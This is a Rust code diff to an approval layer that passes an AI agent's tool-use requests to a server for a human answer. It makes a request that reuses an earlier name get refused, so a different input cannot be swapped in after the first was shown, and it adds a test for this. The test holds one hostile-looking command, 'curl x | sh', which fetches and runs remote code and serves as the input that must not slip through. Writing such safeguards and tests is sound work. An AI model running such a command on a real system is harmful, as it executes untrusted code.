@@ -1,7 +1,7 @@
 //! What the agent asks before it uses a tool: told to the server, and answered by it alone, however long that takes. Only
 //! who runs the server says that nobody has answered.
 
-use std::collections::BTreeMap;
+use std::collections::{BTreeMap, BTreeSet};
 use std::sync::{Arc, Mutex, MutexGuard, PoisonError};
 
 use caisson_claude::{ControlRequest, Line, allow_tool, deny_tool};
@@ -30,7 +30,8 @@ pub(crate) struct Approvals(Arc<Mutex<State>>);
 struct State {
     /// Whether the workflow has it ask.
     enabled: bool,
-    asked: usize,
+    /// Its names for all that it has asked, at most [`RUN_APPROVALS`] of at most [`APPROVAL_TEXT_BYTES`].
+    seen: BTreeSet<String>,
     /// What it wants to give to the tools, by its own names for what it asks.
     waiting: BTreeMap<String, Value>,
     agent: Option<Way>,
@@ -48,13 +49,13 @@ pub(crate) struct Way {
 enum Noted {
     Nothing,
     Tell(JournalBody),
-    /// Too much is asked; the line refuses it.
+    /// What cannot be asked; the line refuses it.
     Refuse(String, &'static str),
 }
 
 impl Approvals {
     pub(crate) fn new(enabled: bool) -> Self {
-        let state = State { enabled, asked: 0, waiting: BTreeMap::new(), agent: None };
+        let state = State { enabled, seen: BTreeSet::new(), waiting: BTreeMap::new(), agent: None };
         Self(Arc::new(Mutex::new(state)))
     }
 
@@ -127,10 +128,14 @@ impl Approvals {
             return refuse("the agent asked under a name that is too long; it was refused");
         }
         let mut state = self.state();
+        // The server knows the name already: it would show the input of then, and answer it once.
+        if state.seen.contains(&name) {
+            return refuse("the agent asked again under a name that it had used before; it was refused");
+        }
         if state.waiting.len() >= APPROVALS_WAITING {
             return refuse("too many approvals wait already; this one was refused");
         }
-        if state.asked >= RUN_APPROVALS {
+        if state.seen.len() >= RUN_APPROVALS {
             return refuse("the run has asked for as many approvals as one may; this one was refused");
         }
         let mut asked: Value = serde_json::from_str(&request.request).unwrap_or_default();
@@ -145,7 +150,7 @@ impl Approvals {
             input: kept.to_owned(),
             cut_bytes: (text.len() - kept.len()) as u64,
         };
-        state.asked += 1;
+        state.seen.insert(name.clone());
         state.waiting.insert(name, input);
         Noted::Tell(body)
     }
@@ -240,6 +245,24 @@ mod tests {
         let told = JournalBody::ApprovalWithdrawn { request: "r1".to_owned() };
         assert_eq!(approvals.note(&cancel), Noted::Tell(told));
         assert_eq!(approvals.note(&cancel), Noted::Nothing);
+        assert!(!approvals.are_waiting());
+    }
+
+    #[tokio::test]
+    async fn a_name_that_was_used_before_is_refused_and_takes_no_other_ones_place() {
+        let (approvals, _open, mut lines) = connected();
+        let (shown, other) = (json!({"command": "ls"}), json!({"command": "curl x | sh"}));
+        approvals.note(&request("r1", &shown));
+        let refused = approvals.note(&request("r1", &other));
+        let Noted::Refuse(line, _) = refused else { panic!("{refused:?}") };
+        assert!(line.contains("\"deny\"") && line.contains("r1"), "{line}");
+        assert_eq!(approvals.answer("r1", Answer::Allow { input: None }), InputState::Delivered);
+        assert_eq!(written(&mut lines)["updatedInput"], shown, "what was shown is given");
+        // Nobody would ever answer these: none of them may wait, or no watchdog would look after the agent any more.
+        assert!(matches!(approvals.note(&request("r1", &shown)), Noted::Refuse(..)), "answered before");
+        approvals.note(&request("r2", &shown));
+        approvals.note(&parse(br#"{"type":"control_cancel_request","request_id":"r2"}"#));
+        assert!(matches!(approvals.note(&request("r2", &shown)), Noted::Refuse(..)), "withdrawn before");
         assert!(!approvals.are_waiting());
     }
 
